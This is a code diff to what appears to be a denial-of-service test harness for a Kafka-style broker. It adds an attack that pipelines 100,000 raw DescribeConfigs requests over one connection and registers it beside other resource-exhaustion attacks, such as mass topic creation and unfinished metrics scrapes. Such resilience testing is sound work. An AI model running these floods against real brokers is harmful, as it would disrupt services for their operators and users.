@@ -9,6 +9,7 @@ import contextlib
 import resource
 import socket
 import struct
+import threading
 import time
 from collections.abc import Callable
 from typing import Final, NamedTuple
@@ -25,6 +26,7 @@ ANSWER_TIMEOUT_S: Final = 60.0
 DAY_MS: Final = 86_400_000
 METADATA, PRODUCE, FETCH, LIST_OFFSETS, DESCRIBE_GROUPS, CREATE_TOPICS = 3, 0, 1, 2, 15, 19
 WRITE_TXN_MARKERS, JOIN_GROUP, HEARTBEAT, CONSUMER_GROUP_HEARTBEAT = 27, 11, 12, 68
+DESCRIBE_CONFIGS, BROKER_RESOURCE = 32, 4
 COORDINATOR_BUSY: Final = (14, 15, 16)
 TARGET: Final = "target"
 """The topic that the attacks may use. It has one partition."""
@@ -231,6 +233,23 @@ def _is_closed(connection: socket.socket) -> bool:
         return True
 
 
+def many_small_requests(target: Target) -> str:
+    """Sends small requests without pause over one connection, and reads their answers meanwhile."""
+    count = target.count(100_000)
+    setting = struct.pack(">ib", 1, BROKER_RESOURCE) + _string("") + struct.pack(">i", 1) + _string("log.dir")
+    request = frame(struct.pack(">hhih", DESCRIBE_CONFIGS, 1, 1, -1) + setting + b"\0")
+    answers = 0
+    with RawClient(target.broker.bootstrap, ANSWER_TIMEOUT_S) as client:
+        sender = threading.Thread(target=client.send_bytes, args=(request * count,))
+        sender.start()
+        with contextlib.suppress(ConnectionClosedError, OSError):
+            while answers < count:
+                client.read_frame()
+                answers += 1
+        sender.join()
+    return f"{answers:,} of {count:,} requests answered"
+
+
 def incomplete_scrapes(target: Target) -> str:
     """Leaves HTTP requests unfinished at the port of the metrics."""
     count = target.count(3_000)
@@ -350,6 +369,7 @@ ATTACKS: Final = (
     Attack("create-topics", "CreateTopics with 10,000 topics", create_many_topics),
     Attack("fetch-sessions", "10 fetch sessions of 230,000 partitions", fetch_sessions),
     Attack("announced", "4,000 connections that announce 100 MB and send 2 bytes", announced_frames),
+    Attack("small-requests", "100,000 requests for one setting in one stream", many_small_requests),
     Attack("unfinished-scrapes", "3,000 unfinished requests at the metrics port", incomplete_scrapes),
     Attack("join-metadata", "20 members with 7 MB of JoinGroup metadata each", join_with_large_metadata),
     Attack("pattern", "a pattern of 990 optional classes over long names", expensive_pattern),
